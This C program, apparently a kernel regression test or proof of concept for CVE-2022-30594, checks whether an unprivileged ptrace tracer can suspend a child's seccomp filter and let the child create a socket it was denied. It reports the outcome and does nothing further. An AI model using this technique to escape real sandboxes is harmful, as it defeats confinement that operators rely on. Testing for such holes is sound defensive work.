// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2022-30594: a process in a sandbox may not have a socket, and its tracer, with no
 * privileges, asks the kernel to let it out.
 */

#include <err.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void enter(void)
{
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socket, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {
		.len = sizeof(filter) / sizeof(filter[0]),
		.filter = filter,
	};

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program))
		err(2, "seccomp");
}

int main(void)
{
	int to[2], from[2], status;
	char byte = 0;
	pid_t pid;

	if (pipe(to) || pipe(from))
		err(2, "pipe");
	pid = fork();
	if (pid < 0)
		err(2, "fork");
	if (!pid) {
		enter();
		/* It is in there now, and waits for its tracer. */
		if (write(from[1], &byte, 1) != 1 || read(to[0], &byte, 1) != 1)
			_exit(EPIPE);
		_exit(socket(AF_UNIX, SOCK_STREAM, 0) < 0 ? errno : 0);
	}

	/* So that the end of the other process is seen. */
	close(from[1]);
	if (read(from[0], &byte, 1) != 1)
		errx(2, "there is no process in the sandbox");
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_SUSPEND_SECCOMP))
		printf("tracer: %s\n", strerror(errno));
	else
		printf("tracer: the filter is suspended\n");
	if (write(to[1], &byte, 1) != 1 || waitpid(pid, &status, 0) != pid ||
	    !WIFEXITED(status))
		errx(2, "the process in the sandbox is gone");
	if (WEXITSTATUS(status))
		printf("sandbox: %s\n", strerror(WEXITSTATUS(status)));
	else
		printf("sandbox: has a socket\n");
	return 0;
}
